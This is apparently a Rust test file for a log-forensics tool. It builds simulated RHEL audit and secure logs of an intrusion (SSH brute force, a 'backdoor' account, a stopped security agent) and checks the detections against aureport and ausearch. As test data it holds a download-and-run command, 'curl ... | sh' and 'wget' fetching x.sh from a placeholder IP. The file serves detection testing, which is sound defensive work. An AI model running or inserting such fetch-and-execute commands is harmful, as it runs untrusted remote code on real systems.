//! The audit log as evidence: records written as RHEL 9 writes them (ENRICHED, hex fields,
//! multi-record events, `node=`), mapped to the same detections as `secure`, compared with
//! auditd's own `aureport` / `ausearch`, and de-duplicated against `secure`.

use std::path::Path;
use std::process::Command;

use ferret_logs::core::{Control, HostRoot};
use ferret_logs::{analyze, analyze_root, AnalyzeOptions, Input};
use ferret_testkit::audit::AuditLog;

const T0: i64 = 1_733_531_000_000; // 2024-12-07 00:23:20 UTC, in ms
const IP: &str = "203.0.113.9";
/// What the attacker ran through sudo (flagged by the shared classifier: download and run).
const CMD: &str = "sh -c curl -fsSL http://198.51.100.7/x.sh | sh";

/// The attack: `guesses` failed passwords from IP (every third for an unknown user), a
/// login of alice, `useradd backdoor`, `sudo sh -c 'curl ... | sh'`, aegis stopped, a keyed command.
fn attack(log: &mut AuditLog, guesses: u32) -> i64 {
    let mut t = T0;
    for i in 0..guesses {
        let user = if i % 3 == 2 { None } else { Some("root") };
        log.ssh_failed(t, 5000 + i / 3, user, IP);
        t += 3000;
    }
    log.ssh_login(t, 6000, "alice", 1000, IP, 7);
    log.add_user(t + 60_000, 6100, "backdoor", 1001, (1000, "alice"), 7);
    log.sudo(t + 90_000, 6200, (1000, "alice"), 7, "/home/alice", CMD);
    log.exec(
        t + 95_000,
        6300,
        (1000, "alice"),
        7,
        "susp_activity",
        &["wget", "http://198.51.100.7/x.sh"],
    );
    log.service(t + 120_000, "aegis", false);
    t
}

fn opts() -> AnalyzeOptions {
    let mut o = AnalyzeOptions::default();
    o.timeline = 1000;
    o
}

fn ids(a: &ferret_logs::Analysis) -> Vec<(&str, String)> {
    a.outcome
        .findings
        .iter()
        .map(|f| (f.id.as_str(), f.subject.clone()))
        .collect()
}

#[test]
fn audit_log_alone_shows_the_attack() {
    let mut log = AuditLog::new(1000);
    attack(&mut log, 30);
    let mut text = log.text().to_string();
    text.push_str("garbage that is not a record\n");
    let a = analyze(
        [Input::reader(text.as_bytes(), "audit.log")],
        &opts(),
        &Control::new(),
    );
    let f = &a.files[0];
    assert!(f.audit);
    assert_eq!(f.unparsed, 1, "the malformed line");
    assert_eq!(a.unparsed_samples[0].line, f.lines);
    let err = &a.outcome.errors[0];
    assert_eq!(err.line, Some(f.lines), "{err:?}");
    let src = a.sources.get(IP.as_bytes()).unwrap();
    // Every guess is one failure: an unknown user's `USER_LOGIN` and its `USER_AUTH` are one.
    assert_eq!(src.failures, 30);
    assert_eq!(src.probes, 0);
    assert_eq!(src.successes, 1);
    let ids = ids(&a);
    for (id, subj) in [
        ("logs.brute-force", IP),
        ("logs.login-after-failures", IP),
        ("logs.new-account", "backdoor"),
        ("logs.security-agent-stopped", "aegis"),
    ] {
        assert!(
            ids.contains(&(id, subj.to_string())),
            "{id} {subj} in {ids:?}"
        );
    }
    assert!(
        ids.iter()
            .any(|(id, s)| *id == "logs.sudo-command" && s == "alice"),
        "{ids:?}"
    );
    let sudo = a.elevations.iter().find(|e| e.user == b"alice").unwrap();
    assert_eq!(sudo.command.as_deref(), Some(CMD.as_bytes()));
    // The timeline tells the story, the keyed command included, the failures summarised.
    let kinds: Vec<&str> = a.timeline.iter().map(|e| e.kind).collect();
    for k in [
        "ssh-accepted",
        "user-added",
        "sudo",
        "audit-command",
        "service",
    ] {
        assert!(kinds.contains(&k), "{k} in {kinds:?}");
    }
    assert!(!kinds.contains(&"ssh-pam-failure"));
    let cmd = a
        .timeline
        .iter()
        .find(|e| e.kind == "audit-command")
        .unwrap();
    assert!(
        cmd.what.contains("wget http://198.51.100.7/x.sh"),
        "{}",
        cmd.what
    );
    assert!(cmd.what.contains("susp_activity"), "{}", cmd.what);
}

#[test]
fn node_prefix_and_raw_format_read_alike() {
    let mut enriched = AuditLog::new(1000);
    attack(&mut enriched, 12);
    let mut raw = AuditLog::new(1000);
    raw.node = Some("rocky9-app".into());
    raw.enriched = false;
    attack(&mut raw, 12);
    let a = analyze(
        [Input::reader(enriched.text().as_bytes(), "a")],
        &opts(),
        &Control::new(),
    );
    let b = analyze(
        [Input::reader(raw.text().as_bytes(), "b")],
        &opts(),
        &Control::new(),
    );
    assert_eq!(a.events, b.events);
    assert_eq!(a.sources.get(IP.as_bytes()).unwrap().failures, 12);
    assert_eq!(b.sources.get(IP.as_bytes()).unwrap().failures, 12);
    // Without the interpreted names, ids stay numbers (the sudo user is auid 1000).
    assert!(b.elevations.iter().any(|e| e.user == b"1000"));
    assert_eq!(b.unparsed, 0);
}

/// The same attack in `secure` and `audit.log`: reported once; with `secure` emptied, the
/// audit log alone reports it.
#[test]
fn secure_and_audit_are_one_attack() {
    let mut log = AuditLog::new(1000);
    let t = attack(&mut log, 9);
    let mut secure = String::new();
    let stamp = |ms: i64| {
        let s = ms / 1000;
        let (_, mo, d, h, mi, se) = civil(s);
        let m = [
            "Jan", "Feb", "Mar", "Apr", "May", "Jun", "Jul", "Aug", "Sep", "Oct", "Nov", "Dec",
        ][mo as usize - 1];
        format!("{m} {d:>2} {h:02}:{mi:02}:{se:02}")
    };
    let mut ts = T0;
    for i in 0..9 {
        let pid = 5000 + i / 3;
        if i % 3 == 2 {
            secure += &format!(
                "{} rocky9-app sshd[{pid}]: Invalid user admin from {IP} port 4{i:04}\n",
                stamp(ts)
            );
            secure += &format!("{} rocky9-app sshd[{pid}]: Failed password for invalid user admin from {IP} port 4{i:04} ssh2\n", stamp(ts + 2000));
        } else {
            secure += &format!(
                "{} rocky9-app sshd[{pid}]: Failed password for root from {IP} port 4{i:04} ssh2\n",
                stamp(ts + 2000)
            );
        }
        ts += 3000;
    }
    secure += &format!(
        "{} rocky9-app sshd[6000]: Accepted password for alice from {IP} port 50000 ssh2\n",
        stamp(t)
    );
    secure += &format!("{} rocky9-app useradd[6100]: new user: name=backdoor, UID=1001, GID=1001, home=/home/backdoor, shell=/bin/bash, from=/dev/pts/0\n", stamp(t + 60_000));
    secure += &format!("{} rocky9-app sudo[6200]:   alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; COMMAND=/usr/bin/{CMD}\n", stamp(t + 90_000));
    let dir = tempfile::tempdir().unwrap();
    ferret_testkit::put(dir.path(), "var/log/secure", &secure);
    ferret_testkit::put(dir.path(), "var/log/audit/audit.log", log.text());
    ferret_testkit::put(dir.path(), "etc/timezone", "Etc/UTC\n");
    let root = HostRoot::new(dir.path()).unwrap();
    let mut o = opts();
    o.year = Some(2024);
    let both = analyze_root(&root, &o, &Control::new());
    let src = both.sources.get(IP.as_bytes()).unwrap();
    assert_eq!(src.failures, 9, "{:?}", both.files);
    assert_eq!(src.successes, 1);
    let audit = both.files.iter().find(|f| f.audit).unwrap();
    // Dropped from audit.log: the 9 guesses, the 3 unknown-user probes, the login, the
    // account (useradd's ADD_USER; its ADD_GROUP has no line in secure here) and sudo.
    assert_eq!(audit.duplicates, 9 + 3 + 1 + 1 + 1, "{audit:?}");
    assert_eq!(both.elevations.len(), 1, "{:?}", both.elevations);
    let news: Vec<_> = both
        .timeline
        .iter()
        .filter(|e| e.kind == "user-added")
        .collect();
    assert_eq!(news.len(), 1);
    // secure emptied: the audit log holds the same attack.
    ferret_testkit::put(dir.path(), "var/log/secure", "");
    let alone = analyze_root(&root, &o, &Control::new());
    let src2 = alone.sources.get(IP.as_bytes()).unwrap();
    assert_eq!(
        (src2.failures, src2.successes),
        (src.failures, src.successes)
    );
    let mut a: Vec<_> = ids(&both).into_iter().map(|x| x.0).collect();
    let mut b: Vec<_> = ids(&alone).into_iter().map(|x| x.0).collect();
    a.sort_unstable();
    b.sort_unstable();
    assert_eq!(a, b);
}

fn civil(s: i64) -> (i64, i64, i64, i64, i64, i64) {
    let days = s.div_euclid(86400);
    let r = s.rem_euclid(86400);
    let (y, m, d) = ferret_logs::core::civil::civil_from_days(days);
    (
        y,
        i64::from(m),
        i64::from(d),
        r / 3600,
        r % 3600 / 60,
        r % 60,
    )
}

fn tool(name: &str) -> Option<std::path::PathBuf> {
    ["/usr/sbin", "/sbin", "/usr/bin"]
        .iter()
        .map(|d| Path::new(d).join(name))
        .find(|p| p.exists())
}

fn run(tool: &Path, args: &[&str]) -> String {
    let out = Command::new(tool).args(args).output().unwrap();
    String::from_utf8_lossy(&out.stdout).into_owned()
}

/// ferret's counts against auditd's reports of the same file: the failed authentications
/// (`aureport -au --failed`), the failed logins (`aureport --login --failed`), the account
/// created (`ausearch -m ADD_USER -i`) and the sudo command (`ausearch -m USER_CMD -i`).
#[test]
fn same_as_aureport_and_ausearch() {
    let (Some(aureport), Some(ausearch)) = (tool("aureport"), tool("ausearch")) else {
        assert!(
            std::env::var_os("CI").is_none(),
            "aureport/ausearch missing on CI: .ci/packages.txt installs auditd"
        );
        eprintln!("SKIPPED: aureport/ausearch not installed (apt-get install auditd)");
        return;
    };
    let mut log = AuditLog::new(1000);
    attack(&mut log, 45);
    let dir = tempfile::tempdir().unwrap();
    let file = dir.path().join("audit.log");
    std::fs::write(&file, log.text()).unwrap();
    let f = file.to_str().unwrap();
    if std::env::var_os("KEEP_AUDIT").is_some() {
        std::fs::write("/tmp/audit-sample.log", log.text()).unwrap();
    }
    let a = analyze(
        [Input::reader(log.text().as_bytes(), "audit.log")],
        &opts(),
        &Control::new(),
    );
    let src = a.sources.get(IP.as_bytes()).unwrap();

    // aureport -au: one line per authentication, `date time acct host term exe success event`.
    let au = run(&aureport, &["-au", "--failed", "-if", f]);
    let au_lines: Vec<&str> = au.lines().filter(|l| l.contains(" no ")).collect();
    assert_eq!(au_lines.len() as u64, src.failures, "{au}");
    assert!(au_lines.iter().all(|l| l.contains(IP)), "{au}");
    // aureport --login --failed: sshd's failed logins are the unknown users' probes.
    let lo = run(&aureport, &["--login", "--failed", "-if", f]);
    let lo_lines = lo.lines().filter(|l| l.contains(" no ")).count() as u64;
    assert_eq!(lo_lines, a.events["ssh-invalid-user"], "{lo}");
    assert!(
        lo.lines()
            .filter(|l| l.contains(" no "))
            .all(|l| l.contains(IP)),
        "{lo}"
    );
    // aureport --login --success: the one login, from the same address.
    let ok = run(&aureport, &["--login", "--success", "-i", "-if", f]);
    let ok_lines: Vec<&str> = ok.lines().filter(|l| l.contains(" yes ")).collect();
    assert_eq!(ok_lines.len() as u64, src.successes, "{ok}");
    assert!(
        ok_lines[0].contains(IP) && ok_lines[0].contains("alice"),
        "{ok}"
    );
    // ausearch -i: the account's name, the command.
    let add = run(&ausearch, &["-if", f, "-m", "ADD_USER", "-i"]);
    let new: Vec<_> = a
        .timeline
        .iter()
        .filter(|e| e.kind == "user-added")
        .collect();
    assert_eq!(new.len(), add.matches("type=ADD_USER").count(), "{add}");
    assert!(
        add.contains("ID=backdoor") || add.contains("id=backdoor"),
        "{add}"
    );
    assert_eq!(new[0].user.as_deref(), Some("backdoor"));
    let cmd = run(&ausearch, &["-if", f, "-m", "USER_CMD", "-i"]);
    assert!(cmd.contains(&format!("cmd={CMD}")), "{cmd}");
    assert_eq!(a.elevations[0].command.as_deref(), Some(CMD.as_bytes()));
    assert_eq!(a.elevations.len(), cmd.matches("type=USER_CMD").count());
}

/// Rules removed and auditing disabled by a logged-in user, a sniffer, a crash, a shutdown,
/// and malformed records (the fuzz seed `tamper-and-malformed`).
#[test]
fn tampering_sniffing_and_malformed_records() {
    let path = ferret_testkit::workspace_dir().join("fuzz/corpus/logs_audit/tamper-and-malformed");
    let data = std::fs::read(path).unwrap();
    let a = analyze(
        [Input::reader(&data[..], "audit.log")],
        &opts(),
        &Control::new(),
    );
    let ids = ids(&a);
    assert!(
        ids.contains(&("logs.audit-tampering", "alice".into())),
        "{ids:?}"
    );
    assert!(
        ids.contains(&("logs.audit-tampering", "1000".into())),
        "{ids:?}"
    );
    assert!(
        ids.contains(&("logs.promiscuous", "eth0".into())),
        "{ids:?}"
    );
    assert_eq!(a.events["segfault"], 1);
    assert_eq!(a.events["system-power"], 1);
    // `msg=audit(notatime:1)` is malformed: reported with its file and line.
    assert_eq!(a.unparsed, 1);
    assert_eq!(a.unparsed_samples[0].line, 7);
    assert_eq!(a.outcome.errors[0].line, Some(7));
    // A PAM failure from sshd named by hex (exe) with a mapped IPv4 address.
    assert_eq!(a.sources.get(b"1.2.3.4").map(|s| s.failures), Some(1));
}
